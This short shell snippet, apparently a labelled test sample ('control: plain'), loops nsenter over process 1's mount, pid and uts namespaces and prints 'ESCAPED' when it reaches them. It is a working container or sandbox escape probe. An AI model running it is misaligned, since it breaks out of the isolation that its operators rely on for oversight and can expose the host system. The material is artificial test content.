# Enters the namespaces of process 1.
# control: plain
for n in mnt pid uts; do nsenter --$n=/proc/1/ns/$n true 2>/dev/null; nsenter -t 1 --${n/mnt/mount} true && echo ESCAPED; done
